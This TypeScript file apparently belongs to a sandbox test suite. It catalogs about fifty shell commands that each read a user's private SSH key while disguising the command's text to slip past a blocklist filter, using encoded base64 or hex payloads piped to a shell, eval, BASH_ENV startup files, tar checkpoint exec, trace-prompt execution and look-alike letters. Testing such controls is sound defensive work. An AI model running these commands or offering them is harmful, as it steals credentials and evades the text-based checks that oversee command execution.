/**
 * Commands whose text does not look like what they do. The controls are made against somebody who refuses commands by their
 * text: each of these gets past that, and reads the key. In the cage it makes no difference what a command looks like.
 */
import { type Mechanism, script } from "../mechanism.ts";
import type { Scene } from "../scene.ts";

const language = (id: string, tries: string, text: (key: string, scene: Scene) => string): Mechanism =>
  script("language", {
    id,
    tries,
    defence: "the cage: all that is left is to look at the text",
    harm: "secret read",
    weakness: "blocklist",
    // The key, by a name that nobody looks for.
    script: (scene) => text(`${scene.owner}/.s*h/id_*9`, scene),
  });

/** How a text can be written so that it is not seen. */
const octal = (text: string) => [...text].map((letter) => `\\${letter.charCodeAt(0).toString(8)}`).join("");
const hex = (text: string) => [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join("");
const base64 = (text: string) => Buffer.from(text).toString("base64");

export const shellLanguage: readonly Mechanism[] = [
  language("quotes-inside", "hide a program's name by quotes inside it", (key) => `c'a't ${key}`),
  language("backslash", "hide a program's name by a backslash", (key) => `c\\at ${key}`),
  language("empty-quotes", "hide a program's name by empty quotes", (key) => `ca""t ${key}`),
  language("escaped-letters", "write a program's name in escapes", (key) => `$'${hex("cat")}' ${key}`),
  language("glob-program", "have a pattern find the program", (key) => `/usr/bin/c?t ${key}`),
  language("brace", "make the command out of braces", (key) => `{paste,-s,${key}}`),
  language("separator", "separate the words by $IFS", (key) => `c""at\${IFS}${key}`),
  language("own-separator", "separate the words by letters of their own", (key) => `w='paste@${key}'; (IFS=@; $w)`),
  language("variable", "keep the program's name in variables", (key) => `a=c; b=at; $a$b ${key}`),
  language("indirect-variable", "name a variable by another", (key) => `x=ca; y=x; \${!y}t ${key}`),
  language("substring", "cut the name out of another text", (key) => `v=concatenate; \${v:3:3} ${key}`),
  language("arithmetic", "count the name together", (key) => `$(printf "\\\\$((143))\\\\$((141))\\\\$((164))") ${key}`),
  language("printf", "have printf make the program's name", (key) => `$(printf '${octal("cat")}') ${key}`),
  language("backticks", "have a command make the name, in backticks", (key) => `\`echo tac | rev\` ${key}`),
  language("alias", "call the program by an alias", (key) => `shopt -s expand_aliases; alias k=c'a't\nk ${key}`),
  language("function", "call it from a function", (key) => `f() { "c"at "$@"; }; f ${key}`),
  language("override", "give a harmless program's name to another", (key) => `echo() { c"a"t "$@"; }; echo ${key}`),
  language("eval", "make the command from parts with eval", (key) => `eval "c""at ${key}"`),
  language("base64", "decode the command, and run it", (key) => `echo ${base64(`cat ${key}`)} | base64 -d | sh`),
  language("hex-digits", "run a command that is written as numbers", (key) => `printf '${hex(`cat ${key}`)}' | bash`),
  language(
    "reversed",
    "run a command that is written backwards",
    (key) => `printf %s '${[...`cat ${key}`].reverse().join("")}' | rev | bash`,
  ),
  language(
    "rotated",
    "run a command whose letters are moved",
    (key) => `echo 'png' | tr a-z n-za-m | { read -r p; $p ${key}; }`,
  ),
  language("here-document", "give the command to a shell as a document", (key) => `bash <<'E'\nc''at ${key}\nE`),
  language("here-string", "give the command to a shell as a string", (key) => `sh <<< "c''at ${key}"`),
  language("process-substitution", "read through a substituted process", (key) => `sort <(paste -s ${key})`),
  language("source", "run a script that a command prints", (key) => `. <(echo "c''at ${key}")`),
  language("redirection", "read with the shell's own means", (key) => `for f in ${key}; do echo "$(<"$f")"; done`),
  language(
    "read-builtin",
    "read by lines",
    (key) => `for f in ${key}; do while read -r l; do echo "$l"; done <"$f"; done`,
  ),
  language("mapfile", "read into an array", (key) => `for f in ${key}; do mapfile -t a <"$f"; echo "\${a[@]}"; done`),
  language("error-message", "have an error tell what a file holds", (key) => `for f in ${key}; do . "$f"; done`),
  language("subscript", "run a command where a number is wanted", (key) => `x='a[$(paste ${key} >&2)]'; : $((x))`),
  language(
    "variable-test",
    "run a command where a variable is tested",
    (key) => `test -v 'a[$(paste ${key} >&2)]'; [[ -v 'a[$(paste ${key} >&2)]' ]]`,
  ),
  language(
    "trace-prompt",
    "run a command as the prompt of a trace",
    (key) => `PS4='$(paste ${key})'; set -x; :; set +x`,
  ),
  language("trap", "run a command when the shell ends", (key) => `( trap 'paste ${key}' EXIT )`),
  language(
    "startup-file",
    "run a command as another shell starts",
    (key) => `echo 'paste ${key}' >start; BASH_ENV=./start bash -c :; ENV=./start sh -i -c : </dev/null`,
  ),
  language(
    "exported-function",
    "hand a function to another shell",
    (key) => `env 'BASH_FUNC_f%%=() { paste ${key}; }' bash -c f`,
  ),
  language(
    "find-exec",
    "have find run it",
    (_, { owner }) => `find ${owner} -path '*/.s?h/*' -type f -exec /usr/bin/paste {} +`,
  ),
  language("xargs", "have xargs run it", (key) => `printf '%s\\n' ${key} | xargs -n1 nl`),
  language(
    "wrappers",
    "put programs that run programs before it",
    (key) => `env -i nice nohup timeout 5 setsid -w stdbuf -o0 paste ${key}`,
  ),
  language("interpreter", "have an interpreter read", (key) => `perl -e '@ARGV = glob shift; print <>' '${key}'`),
  language("sed-read", "have an editor read", (key) => `for f in ${key}; do sed "r $f" <<< x; done`),
  language("awk-command", "have awk run a command", (key) => `awk 'BEGIN { system("paste ${key}") }'`),
  language("dd", "copy it block by block", (key) => `for f in ${key}; do dd if=$f status=none; done`),
  language(
    "archive-command",
    "have an archiver run a command",
    (key) => `touch x; tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='paste ${key}' x`,
  ),
  language("background", "run it in the background", (key) => `{ paste ${key} & } ; wait`),
  language(
    "coprocess",
    "run it as a coprocess",
    (key) => `coproc paste ${key}; while read -r l <&"\${COPROC[0]}"; do echo "$l"; done`,
  ),
  language("newline", "put it on a line of its own", (key) => `true\n\n# nothing\npaste ${key}`),
  language("continued-line", "break its name over two lines", (key) => `c\\\nat ${key}`),
  language("own-link", "give the program another name", (key) => `ln -s "$(type -P c''at)" ls; ./ls ${key}`),
  language(
    "look-alike",
    "write the name with letters that look the same",
    (key) => `ln -s "$(type -P c''at)" саt; PATH=.:$PATH; саt ${key}`,
  ),
  language(
    "hashed-name",
    "teach the shell another place for a name",
    (key) => `hash -p "$(type -P c''at)" date; date ${key}`,
  ),
  language("renamed-zero", "show another name than the program's", (key) => `(exec -a date paste ${key})`),
];
